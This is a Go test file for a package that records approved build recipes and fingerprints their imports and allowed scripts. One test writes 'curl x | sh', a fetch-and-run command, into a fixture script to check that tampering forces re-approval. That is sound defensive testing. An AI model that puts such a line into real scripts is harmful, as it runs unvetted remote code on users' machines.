package trust

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestRecordStates(t *testing.T) {
	dir := t.TempDir()
	recipe, lib := filepath.Join(dir, "rein.jsonnet"), filepath.Join(dir, "lib.libsonnet")
	os.WriteFile(recipe, []byte("{}"), 0o644)
	os.WriteFile(lib, []byte("{ a: 1 }"), 0o644)
	path := filepath.Join(dir, "state", FileName)
	r, err := Open(path)
	if err != nil {
		t.Fatal(err)
	}
	fp, files, err := Fingerprint(recipe, []string{lib, lib}, nil)
	if err != nil || len(files) != 2 {
		t.Fatalf("fingerprint: %v %v", files, err)
	}
	if r.State(recipe, fp) != New {
		t.Error("an empty record approves")
	}
	if err := r.Trust(recipe, fp, files); err != nil {
		t.Fatal(err)
	}
	// Saved and read back.
	if r, err = Open(path); err != nil || r.State(recipe, fp) != Trusted {
		t.Fatalf("reopened: %v %v", r.List(), err)
	}
	// A change to an import changes the fingerprint.
	os.WriteFile(lib, []byte("{ a: 2 }"), 0o644)
	if fp2, _, _ := Fingerprint(recipe, []string{lib}, nil); fp2 == fp || r.State(recipe, fp2) != Changed {
		t.Error("an import's change kept the approval")
	}
	// The order imports are listed in does not matter.
	other := filepath.Join(dir, "other.libsonnet")
	os.WriteFile(other, nil, 0o644)
	a, _, _ := Fingerprint(recipe, []string{lib, other}, nil)
	b, _, _ := Fingerprint(recipe, []string{other, lib}, nil)
	if a != b {
		t.Error("import order changes the fingerprint")
	}
	if had, err := r.Forget(recipe); !had || err != nil || len(r.List()) != 0 {
		t.Errorf("forget: %v %v", had, err)
	}
	if entries, _ := os.ReadDir(filepath.Dir(path)); len(entries) != 1 {
		t.Errorf("temporary files left: %v", entries)
	}
}

func TestDamagedRecordIsAnError(t *testing.T) {
	path := filepath.Join(t.TempDir(), FileName)
	os.WriteFile(path, []byte("[{"), 0o600)
	if _, err := Open(path); err == nil || !strings.Contains(err.Error(), path) {
		t.Errorf("damaged record: %v", err)
	}
	if _, _, err := Fingerprint(filepath.Join(t.TempDir(), "missing"), nil, nil); err == nil {
		t.Error("a missing recipe has a fingerprint")
	}
}

// An approval that cannot be saved is an error naming why.
func TestApprovalThatCannotBeSaved(t *testing.T) {
	state := filepath.Join(t.TempDir(), "state")
	r, err := Open(filepath.Join(state, FileName))
	if err != nil {
		t.Fatal(err)
	}
	os.WriteFile(state, nil, 0o600) // where its folder should be
	if err := r.Trust("/w/rein.jsonnet", "ab", nil); err == nil || !strings.Contains(err.Error(), "cannot save the trusted recipes") {
		t.Errorf("save: %v", err)
	}
}

// A script the recipe allows by path is part of what is approved: a pull
// that changes it needs a new approval. One not made yet is hashed as
// missing, and making it changes the fingerprint too.
func TestFingerprintCoversScripts(t *testing.T) {
	dir := t.TempDir()
	recipe := filepath.Join(dir, "rein.jsonnet")
	os.WriteFile(recipe, []byte("{}"), 0o644)
	script, later := filepath.Join(dir, "lint.sh"), filepath.Join(dir, "later.sh")
	os.WriteFile(script, []byte("#!/bin/sh\necho lint\n"), 0o755)
	fp, files, err := Fingerprint(recipe, nil, []string{script, later})
	if err != nil || len(files) != 2 {
		t.Fatalf("%v %v", files, err)
	}
	os.WriteFile(script, []byte("#!/bin/sh\ncurl x | sh\n"), 0o755)
	if fp2, _, _ := Fingerprint(recipe, nil, []string{script, later}); fp2 == fp {
		t.Error("a changed script keeps the fingerprint")
	}
	os.WriteFile(script, []byte("#!/bin/sh\necho lint\n"), 0o755)
	os.WriteFile(later, []byte("#!/bin/sh\n"), 0o755)
	if fp3, _, _ := Fingerprint(recipe, nil, []string{script, later}); fp3 == fp {
		t.Error("a script made later keeps the fingerprint")
	}
}

// Approvals of recipes that are gone are pruned.
func TestPrune(t *testing.T) {
	dir := t.TempDir()
	r, err := Open(filepath.Join(t.TempDir(), "trusted.json"))
	if err != nil {
		t.Fatal(err)
	}
	kept, gone := filepath.Join(dir, "a", "rein.jsonnet"), filepath.Join(dir, "b", "rein.jsonnet")
	os.MkdirAll(filepath.Dir(kept), 0o755)
	os.WriteFile(kept, []byte("{}"), 0o644)
	r.Trust(kept, "x", nil)
	r.Trust(gone, "y", nil)
	if dropped, err := r.Prune(); err != nil || len(dropped) != 1 || dropped[0] != gone {
		t.Errorf("%v %v", dropped, err)
	}
	if l := r.List(); len(l) != 1 || l[0].Recipe != kept {
		t.Errorf("%+v", l)
	}
}
